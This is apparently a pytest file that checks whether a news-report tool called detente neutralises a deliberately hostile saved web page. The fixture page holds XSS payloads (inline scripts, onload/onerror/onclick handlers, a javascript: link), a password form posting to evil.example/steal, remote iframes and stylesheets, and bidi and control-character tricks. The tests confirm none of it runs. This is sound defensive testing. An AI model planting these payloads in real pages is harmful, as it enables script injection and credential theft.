"""A page built to deceive, from the saved file to the report: all of it is text, and it is seen."""

from __future__ import annotations

import unicodedata
from pathlib import Path
from typing import Any

import pytest
from test_page import assert_sound
from test_page_in_browser import CHROMIUM, Visit, browser  # noqa: F401 - a fixture

import detente

PAGE = """<!doctype html><html><head><title>Bridge&#x202e; talks &lt;b&gt;fail&lt;/b&gt;</title>
<script>document.title = "owned"; alert(1)</script><meta http-equiv=refresh content="0;url=//evil">
<base href="//evil.example/"><link rel=stylesheet href="//evil.example/x.css"></head>
<body onload="alert(2)"><h1>Bridge&#x202e; talks &lt;b&gt;fail&lt;/b&gt;</h1>
<p onclick="alert(3)">Norway wants Sweden to open the &lt;script&gt;alert(4)&lt;/script&gt; bridge
before the winter, said President Ola &lt;img src=x onerror=alert(5)&gt; Berg on Monday in a speech
that took an hour and pleased nobody who had come to hear it.</p>
<form action="//evil.example/steal"><input name=password value="Type"><button>Send</button></form>
<p>Sweden re&#x200b;fuses to o&#xad;pen the bridge and threatens to close the road, its minister
said.</p><p>&#x202e;Norway&#x202c; threatened to stop the &#x2066;ferry&#x2069; if Sweden does not
pay, and &amp;lt;script&amp;gt; is how a page writes &amp;amp; about it, a spokesman said.</p>
<iframe src="//evil.example/frame"></iframe><svg onload="alert(6)"><script>alert(7)</script></svg>
<object data="//evil.example/o"></object><img src="//evil.example/i.png" onerror="alert(8)">
<p>Sweden wants Norway to pay for the repair. <a href="javascript:alert(9)">Norway</a> wants Sweden
to pay.&#0;&#1;&#27;[31m It was the third meeting in a month without a result.</p>
</body></html>"""


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    article, path = folder / "article.html", folder / "report.html"
    article.write_text(PAGE, encoding="utf-8")
    case = detente.draft(detente.extract(detente.read(article)))
    detente.report(case, path)
    return path


def test_the_article_is_text_without_what_nobody_sees(written: Path) -> None:
    document = detente.read(written.parent / "article.html")
    said = " ".join(f"{document.title} {document.text}".split())
    assert {c for c in said if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co"}} == set()
    assert "Sweden refuses to open the bridge" in said
    assert "<script>alert(4)</script>" in said
    assert "alert(1)" not in said
    assert "alert(7)" not in said


def test_the_report_shows_it_as_text(written: Path) -> None:
    root = assert_sound(written.read_text(encoding="utf-8"))
    words = root.text_content()
    assert "<script>alert(4)</script>" in words
    assert "onerror=alert(5)" in words
    assert "evil.example" not in words
    assert not {c for c in words if unicodedata.bidirectional(c) in {"RLO", "LRO", "RLI", "FSI"}}


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
def test_nothing_of_it_runs_or_asks_for_anything(browser: Any, written: Path) -> None:  # noqa: F811
    visit = Visit(browser, written, width=390)
    assert visit.told == []
    assert visit.asked == [written.as_uri()]
    assert visit.page.evaluate("document.querySelectorAll('script,form,iframe,img').length") == 0
    assert visit.page.evaluate("document.documentElement.scrollWidth") == 390
    visit.page.close()
